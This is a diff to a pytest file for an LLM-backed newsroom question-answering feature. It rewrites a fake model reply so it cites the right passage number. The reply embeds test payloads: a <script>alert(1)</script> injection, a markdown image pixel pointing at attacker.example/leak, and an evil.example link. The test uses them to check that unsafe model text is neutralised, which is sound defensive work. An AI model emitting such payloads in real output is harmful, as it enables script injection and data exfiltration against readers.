@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 
 import pytest
@@ -123,10 +124,15 @@ def test_failing_llm_endpoint_falls_back_to_quotes_without_a_traceback(monkeypat
 
 
 def test_llm_answer_streams_in_and_unsafe_model_text_is_neutralised(monkeypatch: pytest.MonkeyPatch) -> None:
-    reply = (
-        "Shoigu said Ukraine used eight drones [1]. Shoigu said <script>alert(1)</script> eight drones were used "
-        "![pixel](https://attacker.example/leak?q=x) [in the attack](https://evil.example/) [1]."
-    )
+    def reply(messages: list[dict[str, str]]) -> str:
+        """Cites the passage that holds the fact, whatever its number (citations are renumbered to [1])."""
+        blocks = re.split(r"\n(?=\[\d+\] )", messages[-1]["content"])
+        n = next(int(b[1 : b.index("]")]) for b in blocks if b.startswith("[") and "eight drones" in b)
+        return (
+            f"Shoigu said Ukraine used eight drones [{n}]. Shoigu said <script>alert(1)</script> eight drones were "
+            f"used ![pixel](https://attacker.example/leak?q=x) [in the attack](https://evil.example/) [{n}]."
+        )
+
     with FakeOpenAIServer(reply=reply) as server:
         monkeypatch.setenv("OPENAI_BASE_URL", server.base_url)
         monkeypatch.setenv("NEWSROOM_CHAT_MODEL", "fake-model")
